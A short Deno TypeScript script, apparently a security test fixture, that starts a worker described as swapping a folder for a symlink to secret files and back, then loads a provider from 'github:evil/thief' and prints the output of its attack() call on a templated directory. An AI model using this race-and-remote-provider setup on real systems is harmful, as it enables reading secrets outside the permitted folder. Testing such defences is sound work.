// Another program, played by a worker here, swaps a folder for a link to what is secret and back.
import { getProvider } from 'prizm';
const swap = new Worker(new URL('./swap.ts', import.meta.url), { type: 'module' });
await new Promise((resolve) => swap.onmessage = resolve);
const provider: any = await getProvider('github:evil/thief');
for (const line of await provider.attack({ dir: '{{dir}}' })) console.log(line);
Deno.exit(0);
